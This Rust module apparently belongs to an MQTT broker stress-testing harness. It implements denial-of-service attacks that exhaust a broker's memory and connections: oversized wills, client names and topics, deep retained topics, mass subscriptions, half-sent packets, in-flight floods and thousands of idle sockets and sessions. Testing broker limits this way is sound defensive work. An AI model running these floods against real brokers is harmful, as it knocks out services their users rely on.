//! Implements attacks that make the broker keep bytes, or that take the places of others.

use std::collections::VecDeque;
use std::net::TcpStream;
use std::time::Duration;

use mqtt_proto::{Connect, Delivery, Packet, Property, Publish, QoS, TopicAlias, Version, Will};
use mqtt_testing::packets::encode;

use super::Target;
use crate::client::{
    Client, connect, numbered, publish, push, retained, returning, subscribe, subscribe_at, topic,
};

/// The time in seconds for which sessions stay.
const STAYS: Property<'_> = Property::SessionExpiryInterval(60);
/// The header of a PUBLISH with 2,000,000 bytes, to a topic `a`.
const HALF: &[u8] = &[0x30, 0x80, 0x89, 0x7A, 0, 1, b'a', 0];
/// The header of a CONNECT with 1 MiB.
const CONNECT: &[u8] = b"\x10\x80\x80\x40\0\x04MQTT\x05\x02\0\0\0";

pub(super) fn large_wills(target: &Target) -> Option<()> {
    let payload = [b'x'; 60_000];
    let will = Will::new(topic("attack"), &payload);
    let stays = [STAYS];
    let names: Vec<_> = (0..400).map(|n| format!("will-{n}")).collect();
    let open = |name: &String| {
        let will = Some(will);
        target.open(&Connect {
            will,
            ..returning(name, &stays)
        })
    };
    let _clients: Vec<_> = names.iter().filter_map(open).collect();
    target.holds();
    Some(())
}

pub(super) fn deep_retained(target: &Target) -> Option<()> {
    let mut client = target.attacker()?;
    for n in 0..100_000 {
        let text = format!("{n}/{}x", "a/".repeat(62));
        if !client.pour(&retained(&text, b"x", &[]), &target.over) {
            break;
        }
    }
    target.holds();
    Some(())
}

pub(super) fn filters(target: &Target) -> Option<()> {
    let mut number = 0;
    let mut crowd = target.crowd(20);
    for client in &mut crowd {
        for _ in 0..80 {
            let texts: Vec<_> = (number..number + 100)
                .map(|n| format!("{n}/{}x", "+/a/".repeat(31)))
                .collect();
            number += 100;
            let packet = subscribe(texts.iter().map(String::as_str), None);
            if !client.pour(&packet, &target.over) {
                break;
            }
        }
    }
    target.holds();
    Some(())
}

pub(super) fn aliases(target: &Target) -> Option<()> {
    let text = "a".repeat(65_000);
    let packets: Vec<u8> = (1..=16)
        .flat_map(|alias| {
            let message = Publish {
                topic_alias: TopicAlias::new(alias),
                ..Publish::new(topic(&text), b"x")
            };
            encode(&Packet::Publish(message), Version::V5)
        })
        .collect();
    let mut crowd = target.crowd(200);
    for client in &mut crowd {
        client.pour(&packets, &target.over);
    }
    target.holds();
    Some(())
}

/// A client identifier and a user name of 60 kB, and a retained message by one whose names are as long as they may be.
pub(super) fn long_names(target: &Target) -> Option<()> {
    for n in 0..2_000 {
        for length in [60_000, 1_000] {
            let name = format!("{n}-{}", "x".repeat(length));
            let stays = [STAYS];
            if let Some(mut client) = target.open(&returning(&name, &stays)) {
                client.pour(&retained(&format!("attack/{n}"), b"x", &[]), &target.over);
            }
        }
    }
    target.holds();
    Some(())
}

/// Sessions get as many messages as may be in flight, and their clients go.
pub(super) fn in_flight(target: &Target) -> Option<()> {
    let stays = [STAYS];
    let packets = numbered(100, Delivery::AtLeastOnce, "attack", &[b'x'; 50_000]);
    for n in 0..100 {
        let mut client = target.open(&returning(&format!("left-{n}"), &stays))?;
        client.say(&subscribe_at(QoS::AtLeastOnce, ["attack"].into_iter(), &[]));
        let mut publisher = target.attacker()?;
        std::thread::scope(|scope| {
            scope.spawn(|| client.drain(&target.over));
            publisher.pour(&packets, &target.over);
        });
    }
    target.holds();
    Some(())
}

pub(super) fn unread(target: &Target) -> Option<()> {
    let mut crowd = target.crowd(100);
    for client in &mut crowd {
        client.say(&subscribe(["attack"].into_iter(), None));
    }
    let packet = publish("attack", &[b'x'; 60_000]);
    target.attacker()?.flood(&packet, &target.over);
    Some(())
}

pub(super) fn half_packets(target: &Target) -> Option<()> {
    let bytes = [HALF, &[b'x'; 1_900_000]].concat();
    let mut crowd = target.crowd(200);
    for client in &mut crowd {
        client.pour(&bytes, &target.over);
    }
    target.holds();
    Some(())
}

/// Two sessions with large messages and many small ones share the room of all queues with a session of an honest client.
pub(super) fn greedy(target: &Target) -> Option<()> {
    let stays = [STAYS];
    let mut sessions: Vec<_> = (0..1_000).map(|n| format!("invented-{n}")).collect();
    sessions.extend(["greedy-1".to_owned(), "greedy-2".to_owned()]);
    for name in &sessions {
        let mut client = target.open(&returning(name, &stays))?;
        let filter = name.split_once('-')?.0;
        client.say(&subscribe_at(QoS::AtLeastOnce, [filter].into_iter(), &[]));
        client.read_packet()?;
    }
    let mut packets = numbered(4, Delivery::AtLeastOnce, "invented", &[b'x'; 1_000]);
    packets.extend(numbered(
        100,
        Delivery::AtLeastOnce,
        "greedy",
        &[b'x'; 60_000],
    ));
    target.attacker()?.flood(&packets, &target.over);
    Some(())
}

pub(super) fn silent(target: &Target) -> Option<()> {
    let mut sockets = VecDeque::new();
    for _ in 0..10_000 {
        sockets.push_back(TcpStream::connect(target.address).ok()?);
        if sockets.len() > 2_100 {
            sockets.pop_front();
            // The rate stays below what exhausts the ports of this machine.
            target.waits(Duration::from_micros(300));
        }
        if !target.goes_on() {
            return Some(());
        }
    }
    target.holds();
    Some(())
}

pub(super) fn before_connect(target: &Target) -> Option<()> {
    let bytes = [CONNECT, &[0; 1 << 20]].concat();
    let mut sockets = VecDeque::new();
    for _ in 0..5_000 {
        let mut stream = TcpStream::connect(target.address).ok()?;
        push(&mut stream, &bytes);
        sockets.push_back(stream);
        if sockets.len() > 500 {
            sockets.pop_front();
        }
        if !target.waits(Duration::from_micros(300)) {
            return Some(());
        }
    }
    target.holds();
    Some(())
}

/// Half of the sessions have a subscription.
pub(super) fn invented(target: &Target) -> Option<()> {
    let stays = [STAYS];
    for n in 0..3_000 {
        let name = format!("invented-{n}");
        let client = Client::open(target.address, &returning(&name, &stays));
        if let Some(mut client) = client
            && n % 2 == 0
        {
            client.say(&subscribe(["attack"].into_iter(), None));
            client.read_packet();
        }
        if !target.goes_on() {
            return Some(());
        }
    }
    // A broker that has refused all of them is asked again.
    while target.waits(Duration::from_millis(1)) {
        drop(Client::open(target.address, &connect("")));
    }
    Some(())
}
